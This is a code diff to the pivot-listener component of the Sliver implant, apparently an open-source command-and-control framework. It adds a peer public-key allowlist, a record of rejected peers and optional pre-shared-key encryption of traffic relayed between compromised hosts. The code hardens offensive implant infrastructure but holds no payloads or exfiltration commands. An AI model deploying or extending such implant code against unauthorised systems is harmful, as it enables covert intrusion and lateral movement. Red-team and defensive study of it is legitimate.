@@ -36,6 +36,7 @@ import (
 	consts "github.com/bishopfox/sliver/implant/sliver/constants"
 	"github.com/bishopfox/sliver/implant/sliver/cryptography"
 	pb "github.com/bishopfox/sliver/protobuf/sliverpb"
+	"golang.org/x/crypto/chacha20poly1305"
 	"google.golang.org/protobuf/proto"
 )
 
@@ -55,6 +56,9 @@ var (
 
 	pivotReadDeadline  = 10 * time.Second
 	pivotWriteDeadline = 10 * time.Second
+
+	// maxRejectedPeers - Number of rejected connections each listener remembers
+	maxRejectedPeers = 32
 )
 
 // generatePeerID - Generate a new pivot id
@@ -113,6 +117,8 @@ func RestartAllListeners(send chan<- *pb.Envelope) {
 				// {{end}}
 				return false
 			}
+			listener.Key = stoppedListener.Key
+			listener.SetAllowedPeerKeys(stoppedListener.AllowedPeerKeys())
 			go listener.Start()
 			AddListener(listener)
 		}
@@ -131,6 +137,16 @@ func StopAllListeners() {
 	pivotListeners = &sync.Map{}
 }
 
+// AllowPeers - Replace the allowlist of a pivot listener
+func AllowPeers(id uint32, allowedPeerKeys [][]byte) (*PivotListener, error) {
+	listener, ok := pivotListeners.Load(id)
+	if !ok {
+		return nil, errors.New("{{if .Config.Debug}}pivot listener not found{{end}}")
+	}
+	listener.(*PivotListener).SetAllowedPeerKeys(allowedPeerKeys)
+	return listener.(*PivotListener), nil
+}
+
 // StartListener - Stop a pivot listener
 func StartListener(id uint32) {
 	if listener, ok := pivotListeners.Load(id); ok {
@@ -209,6 +225,54 @@ type PivotListener struct {
 	BindAddress      string
 	Upstream         chan<- *pb.Envelope
 	Options          []bool
+	Key              []byte // Optional, peers must use the same key to connect
+
+	allowMutex      sync.RWMutex
+	allowedPeerKeys [][]byte // Optional, only peers with these public keys can connect
+	rejected        []*pb.PivotRejectedPeer
+}
+
+// SetAllowedPeerKeys - Replace the public keys of the peers allowed to connect, any peer
+// signed by the server is allowed if there are none. Existing connections are not affected.
+func (l *PivotListener) SetAllowedPeerKeys(allowedPeerKeys [][]byte) {
+	l.allowMutex.Lock()
+	defer l.allowMutex.Unlock()
+	l.allowedPeerKeys = allowedPeerKeys
+}
+
+// AllowedPeerKeys - The public keys of the peers allowed to connect
+func (l *PivotListener) AllowedPeerKeys() [][]byte {
+	l.allowMutex.RLock()
+	defer l.allowMutex.RUnlock()
+	return l.allowedPeerKeys
+}
+
+// allowPeer - Check a peer's public key against the allowlist, rejected peers are recorded
+func (l *PivotListener) allowPeer(remoteAddress string, peerHello *pb.PivotHello) bool {
+	l.allowMutex.Lock()
+	defer l.allowMutex.Unlock()
+	if len(l.allowedPeerKeys) == 0 {
+		return true
+	}
+	for _, allowedPeerKey := range l.allowedPeerKeys {
+		if bytes.Equal(allowedPeerKey, peerHello.PublicKey) {
+			return true
+		}
+	}
+	// {{if .Config.Debug}}
+	log.Printf("[pivot] rejected peer %d from %s, public key is not allowed: %s",
+		peerHello.PeerID, remoteAddress, base64.RawStdEncoding.EncodeToString(peerHello.PublicKey))
+	// {{end}}
+	l.rejected = append(l.rejected, &pb.PivotRejectedPeer{
+		RemoteAddress: remoteAddress,
+		PeerID:        peerHello.PeerID,
+		PublicKey:     peerHello.PublicKey,
+		Time:          time.Now().Unix(),
+	})
+	if maxRejectedPeers < len(l.rejected) {
+		l.rejected = l.rejected[len(l.rejected)-maxRejectedPeers:]
+	}
+	return false
 }
 
 // ToProtobuf - Get the protobuf version of the pivot listener
@@ -219,11 +283,16 @@ func (l *PivotListener) ToProtobuf() *pb.PivotListener {
 		pivotPeers = append(pivotPeers, pivot.ToProtobuf())
 		return true
 	})
+	l.allowMutex.RLock()
+	defer l.allowMutex.RUnlock()
 	return &pb.PivotListener{
-		ID:          l.ID,
-		Type:        l.Type,
-		BindAddress: l.BindAddress,
-		Pivots:      pivotPeers,
+		ID:              l.ID,
+		Type:            l.Type,
+		BindAddress:     l.BindAddress,
+		Pivots:          pivotPeers,
+		Key:             l.Key,
+		AllowedPeerKeys: l.allowedPeerKeys,
+		Rejected:        l.rejected,
 	}
 }
 
@@ -246,6 +315,12 @@ func (p *PivotListener) Start() {
 			writeDeadline: pivotWriteDeadline,
 			upstream:      p.Upstream,
 			Downstream:    make(chan *pb.Envelope),
+			listener:      p,
+		}
+		if len(p.Key) == chacha20poly1305.KeySize {
+			listenerKey := [chacha20poly1305.KeySize]byte{}
+			copy(listenerKey[:], p.Key)
+			pivotConn.listenerKey = &listenerKey
 		}
 		go pivotConn.Start(p.PivotConnections)
 	}
@@ -283,8 +358,10 @@ type NetConnPivot struct {
 	readMutex        *sync.Mutex
 	writeMutex       *sync.Mutex
 	cipherCtx        *cryptography.CipherContext
+	listenerKey      *[chacha20poly1305.KeySize]byte
 	readDeadline     time.Duration
 	writeDeadline    time.Duration
+	listener         *PivotListener
 
 	upstream   chan<- *pb.Envelope
 	Downstream chan *pb.Envelope
@@ -408,6 +485,9 @@ func (p *NetConnPivot) peerKeyExchange() error {
 		// {{end}}
 		return ErrFailedKeyExchange
 	}
+	if p.listener != nil && !p.listener.allowPeer(p.RemoteAddress(), peerHello) {
+		return ErrFailedKeyExchange
+	}
 	p.downstreamPeerID = peerHello.PeerID
 	sessionKey := cryptography.RandomKey()
 	p.cipherCtx = cryptography.NewCipherContext(sessionKey)
@@ -443,6 +523,13 @@ func (p *NetConnPivot) peerKeyExchange() error {
 func (p *NetConnPivot) write(message []byte) error {
 	p.writeMutex.Lock()
 	defer p.writeMutex.Unlock()
+	if p.listenerKey != nil {
+		var err error
+		message, err = cryptography.Encrypt(*p.listenerKey, message)
+		if err != nil {
+			return err
+		}
+	}
 	n, err := p.conn.Write(p.lengthOf(message))
 	if err != nil {
 		// {{if .Config.Debug}}
@@ -509,6 +596,10 @@ func (p *NetConnPivot) read() ([]byte, error) {
 		return nil, err
 	}
 
+	// Peers without the listener's key are dropped before the key exchange
+	if p.listenerKey != nil {
+		return cryptography.Decrypt(*p.listenerKey, dataBuf)
+	}
 	return dataBuf, err
 }
 